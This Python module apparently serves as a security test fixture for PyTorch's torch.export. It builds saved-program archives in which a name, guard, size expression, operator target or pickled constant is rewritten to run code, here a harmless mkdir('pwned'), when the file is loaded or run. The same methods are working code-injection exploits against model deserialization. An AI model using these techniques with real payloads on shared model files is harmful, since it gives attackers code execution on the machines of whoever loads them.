"""Programs of torch.export whose texts run code: each makes a folder, `pwned`, when it is loaded, or when it is run.

Each is a program that torch wrote, with one text of it changed.
"""

import collections
import io
import json
import warnings
import zipfile

import torch
from torch import nn

RUN = "__import__('os').mkdir('pwned')"
#: The same without a dot, which parts names of parameters.
RUN_UNDOTTED = "getattr(__import__('os'),'mkdir')('pwned')"
#: A checkpoint of torch before 1.6 that is text from its start to its end.
TEXT_PICKLE = b"L119547037146038801333356L\n.I1001\n.cos\nmkdir\n(S'pwned'\ntR."


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.layer = nn.Linear(3, 2)
        self.register_buffer("offset", torch.ones(2))

    def forward(self, x, mode="sum", *, k):
        table = collections.defaultdict(list)
        table["out"] = self.layer(x["in"]) + self.offset + k + len(mode)
        return table


def _program(example):
    rows = torch.export.Dim("rows", min=2, max=64)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        program = torch.export.export(
            Net().eval(),
            ({"in": torch.ones(3, 3)}, "sum"),
            {"k": torch.ones(2)},
            dynamic_shapes={"x": {"in": {0: rows}}, "mode": None, "k": None},
        )
        if example is not None:
            program._example_inputs = example  # the structure is not compared with that of the inputs
        stream = io.BytesIO()
        torch.export.save(program, stream)
    with zipfile.ZipFile(stream) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def members(example=None):
    """Return the members of a program that is as torch wrote it."""
    return _program(example)


def written(members, *more):
    """Return the members as a file; `more` may have names that are there already."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in (*members.items(), *more):
            archive.writestr(name, content)
    return stream.getvalue()


def _changed(members, change):
    """Return the program after a function has changed its document."""
    [name] = [name for name in members if "/models/" in name]
    document = json.loads(members[name])
    change(document["graph_module"], document)
    return written(members | {name: json.dumps(document)})


def _everywhere(value, key, new):
    """Set a key to a value wherever it is, and return whether it is anywhere."""
    below = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    found = sum(_everywhere(one, key, new) for one in below) > 0
    if isinstance(value, dict) and key in value:
        value[key] = new
        return True
    return found


def _renamed(members, old, new):
    """Return the program with a text exchanged in all documents, wherever it is the whole of one."""
    old, new = json.dumps(old), json.dumps(new)
    return written(
        {name: data.decode().replace(old, new) if name.endswith(".json") else data for name, data in members.items()}
    )


def attacks():
    """Yield each attack's kind, the file, and what loads it: `export_load`, or `export_run`, which calls it, too."""
    plain = members()
    root = next(iter(plain)).split("/")[0]

    def size(graph, _):
        assert _everywhere(graph, "expr_str", f"({RUN},Symbol('s77', positive=True, integer=True))[1]")

    yield "a size", _changed(plain, size), "export_load"

    yield "the name of an input", _renamed(plain, "k", f"k={RUN}"), "export_load"
    name = "offset"
    hostile = f'{name}" if {RUN_UNDOTTED} else "{name}'
    yield "the name of a buffer", _renamed(plain, name, hostile), "export_run"

    def guard(_, document):
        document["guards_code"] = [f"{RUN} is None"]

    yield "a guard", _changed(plain, guard), "export_run"

    def text(graph, _):
        [found] = [one for one in graph["graph"]["inputs"] if "as_string" in one]
        found["as_string"] = f"' + str({RUN}) + '"

    yield "a text among the inputs", _changed(plain, text), "export_run"
    key = f"% {RUN}) #'"
    yield (
        "a key of the example",
        written(members((({key: torch.ones(3, 3)}, "sum"), {"k": torch.ones(2)}))),
        "export_run",
    )

    config = f"{root}/data/constants/model_constants_config.json"
    payload = {"path_name": "tensor_0.txt", "is_param": False, "use_pickle": True, "tensor_meta": None}
    pickled = plain | {config: json.dumps({"config": {"c": payload}})}
    place = f"{root}/data/constants/tensor_0.txt"
    yield "a pickle called text", written(pickled | {place: TEXT_PICKLE}), "export_load"
    harmless = io.BytesIO()
    torch.save(torch.ones(1), harmless)
    both = [(place, harmless.getvalue()), (f"{root}/data/constants/TENSOR_0.TXT", TEXT_PICKLE)]
    yield "a name in another case", written(pickled, *both), "export_load"


def others():
    """Yield texts of which torch makes code, and which this torch trips over afterwards; each its kind and the file."""
    plain = members()
    yield "the name of a value", _renamed(plain, "linear", f"{RUN};linear")

    def argument(graph, _):
        graph["module_call_graph"][0]["signature"]["forward_arg_names"][0] = f"x={RUN}"

    yield "the name of an argument", _changed(plain, argument)

    def keyword(graph, _):
        signature = graph["module_call_graph"][0]["signature"]
        signature["forward_arg_names"] = None
        spec = json.loads(signature["in_spec"])
        spec[1]["children_spec"][1]["context"] = json.dumps([f"k={RUN}"])
        signature["in_spec"] = json.dumps(spec)

    yield "the key of named arguments", _changed(plain, keyword)

    def operator(graph, _):
        node = graph["graph"]["nodes"][0]
        node["target"] = "torch.serialization.os.mkdir"
        node["inputs"] = [{"name": "", "arg": {"as_string": "pwned"}, "kind": 1}]

    yield "an operator", _changed(plain, operator)

    def factory(graph, _):
        signature = graph["module_call_graph"][0]["signature"]
        assert "builtins" in signature["out_spec"]
        spec = json.loads(signature["out_spec"])
        spec[1]["context"] |= {"default_factory_module": "os", "default_factory_name": "mkdir"}
        signature["out_spec"] = json.dumps(spec)

    yield "the factory of a defaultdict", _changed(plain, factory)

    def enum(graph, _):
        signature = graph["module_call_graph"][0]["signature"]
        spec = json.loads(signature["in_spec"])
        spec[1]["context"] = json.dumps({"__enum__": True, "fqn": "evil_module:Kind", "name": "ONE"})
        signature["in_spec"] = json.dumps(spec)

    yield "an enum", _changed(plain, enum)
